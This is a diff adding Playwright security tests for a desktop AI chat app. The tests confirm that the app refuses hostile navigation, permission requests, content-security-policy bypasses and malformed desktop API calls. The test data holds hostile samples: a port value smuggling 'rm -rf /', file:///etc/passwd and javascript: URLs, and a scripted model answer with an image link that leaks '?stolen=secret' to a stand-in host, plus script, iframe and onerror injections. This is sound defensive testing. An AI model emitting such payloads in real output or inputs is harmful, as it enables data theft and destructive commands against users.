@@ -1,0 +1,135 @@
+import type { DesktopApi } from '../../src-main/contract/desktop-api.ts'
+import { expect, test } from '../fixtures/deckhand.ts'
+import { setUpAgent } from '../fixtures/set-up-agent.ts'
+
+const ELSEWHERE = 'https://elsewhere.example/path'
+
+test('the page stays where it is, opens nothing and is granted nothing', async ({ deckhand, page }) => {
+  await deckhand.setHooks({ confirm: false })
+  await expect(page.getByRole('heading', { name: 'Choose a model' })).toBeVisible()
+  const address = page.url()
+
+  expect(await page.evaluate((url) => window.open(url) === null, ELSEWHERE)).toBe(true)
+  await expect.poll(async () => (await deckhand.hooks()).questions).toEqual(['Open elsewhere.example in your browser?'])
+  await page.evaluate((url) => void (location.href = url), ELSEWHERE)
+  await expect.poll(async () => (await deckhand.hooks()).questions).toHaveLength(2)
+  // Not a word is asked about what no browser should be given.
+  await page.evaluate(() => void window.open('file:///etc/passwd'))
+  await page.evaluate(() => void (location.href = 'data:text/html,<h1>taken over</h1>'))
+  expect(page.url()).toBe(address)
+  expect(deckhand.app.windows()).toHaveLength(1)
+  expect(await deckhand.hooks()).toMatchObject({ opened: [], questions: [expect.any(String), expect.any(String)] })
+
+  const granted = await page.evaluate(async () => {
+    const names = ['camera', 'microphone', 'clipboard-read', 'notifications', 'midi', 'storage-access'] as PermissionName[]
+    const states = await Promise.all(names.map(async (name) => (await navigator.permissions.query({ name })).state))
+    const location = await new Promise((resolve) =>
+      navigator.geolocation.getCurrentPosition(
+        () => resolve('granted'),
+        (error) => resolve(error.code === error.PERMISSION_DENIED ? 'denied' : error.message),
+      ),
+    )
+    return [...states, location, await Notification.requestPermission()]
+  })
+  expect(granted).toEqual(Array(8).fill('denied'))
+})
+
+test('the page may run nothing and reach nothing that did not come with the app', async ({ page, stranger }) => {
+  const policy = await page.evaluate(async () =>
+    (await fetch(location.href, { headers: { accept: 'text/html' } })).headers.get('content-security-policy'),
+  )
+  expect(policy).toContain("default-src 'none'")
+  expect(policy).not.toMatch(/unsafe-eval|script-src[^;]*unsafe-inline|https?:|\*/)
+
+  const attempts = await page.evaluate(async (port) => {
+    const violation = (cause: () => void) =>
+      new Promise<string>((resolve) => {
+        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), { once: true })
+        cause()
+      })
+    const append = (tag: string, fields: object) => () => document.body.append(Object.assign(document.createElement(tag), fields))
+    const script = await violation(append('script', { textContent: 'document.title = "taken over"' }))
+    const frame = await violation(append('iframe', { src: 'data:text/html,<h1>taken over</h1>' }))
+    const image = await violation(append('img', { src: `http://127.0.0.1:${port}/pixel.png` }))
+    const answer = (name: string) => [() => `${name} went through`, () => `${name} was refused`] as const
+    const fetched = await fetch(`http://127.0.0.1:${port}/`).then(...answer('fetch'))
+    const evaluated = await Promise.resolve()
+      .then(() => new Function('return 1')())
+      .then(...answer('eval'))
+    const socket = await new Promise((resolve) => {
+      try {
+        const made = new WebSocket(`ws://127.0.0.1:${port}/`)
+        made.onerror = () => resolve('socket was refused')
+        made.onopen = () => resolve('socket went through')
+      } catch {
+        resolve('socket was refused')
+      }
+    })
+    return [script, frame, image, fetched, evaluated, socket]
+  }, stranger.port)
+  expect(attempts).toEqual(['script-src-elem', 'frame-src', 'img-src', 'fetch was refused', 'eval was refused', 'socket was refused'])
+  await expect(page).toHaveTitle(/Deckhand/)
+  expect(stranger.connections()).toBe(0)
+})
+
+test('the answer of a model fetches nothing, runs nothing, and its links ask', async ({ deckhand, page, models, stranger }) => {
+  await setUpAgent(deckhand.client, models)
+  const there = `http://127.0.0.1:${stranger.port}`
+  models.play({
+    text: [
+      `![a picture](${there}/pixel.png?stolen=secret)\n\n<img src="${there}/raw.png" onerror="document.title='taken over'">\n\n`,
+      `<script>document.title = 'taken over'</script><style>@import url(${there}/x.css)</style><iframe src="${there}/frame"></iframe>\n\n`,
+      `[the manual](${ELSEWHERE}) and [a trap](javascript:document.title='taken-over')\n\nThat was all.`,
+    ],
+  })
+  await page.goto('app://deckhand/chat')
+  await page.getByRole('textbox', { name: 'Message' }).fill('Show me a picture')
+  await page.keyboard.press('Enter')
+  const answer = page.getByRole('group', { name: 'Chat' })
+  await expect(answer.getByText('That was all.', { exact: true })).toBeVisible()
+  await expect(answer.locator('img, iframe, script, style')).toHaveCount(0)
+  await expect(page).toHaveTitle(/Deckhand/)
+
+  await deckhand.setHooks({ confirm: false })
+  await answer.getByRole('link', { name: 'the manual' }).click()
+  await expect.poll(async () => (await deckhand.hooks()).questions).toEqual(['Open elsewhere.example in your browser?'])
+  expect((await deckhand.hooks()).opened).toEqual([])
+
+  await deckhand.setHooks({ confirm: true })
+  await answer.getByRole('link', { name: 'the manual' }).click()
+  await expect.poll(async () => (await deckhand.hooks()).opened).toEqual([ELSEWHERE])
+  await expect(answer.getByRole('link', { name: 'a trap' })).toHaveCount(0)
+  expect(stranger.connections()).toBe(0)
+})
+
+test('the desktop refuses what does not fit, and says so without carrying it out', async ({ deckhand, page }) => {
+  const before = await deckhand.state()
+  const answers = await page.evaluate(async () => {
+    const { deckhand: desktop } = window as unknown as { deckhand: DesktopApi }
+    const refused = (call: Promise<unknown>) =>
+      call.then(
+        () => 'carried out',
+        (error: Error) => error.message,
+      )
+    return Promise.all([
+      refused(desktop.usePort({ server: 'runner', port: '3001; rm -rf /' } as never)),
+      refused(desktop.changeSettings({ runnerPort: 0 })),
+      refused(desktop.changeSettings({ theme: 'pink' } as never)),
+      refused(desktop.showFolder('/etc' as never)),
+      refused(desktop.copyText({} as never)),
+    ])
+  })
+  expect(answers).toEqual(Array(5).fill(expect.stringContaining('the argument does not fit')))
+  expect(await deckhand.state()).toEqual(before)
+
+  const opened = await page.evaluate(() => {
+    const { deckhand: desktop } = window as unknown as { deckhand: DesktopApi }
+    return Promise.all(
+      ['file:///etc/passwd', 'javascript:alert(1)', 'smb://elsewhere.example/share', 'nonsense'].map((url) =>
+        desktop.openExternal({ url }),
+      ),
+    )
+  })
+  expect(opened).toEqual([false, false, false, false])
+  expect((await deckhand.hooks()).opened).toEqual([])
+})
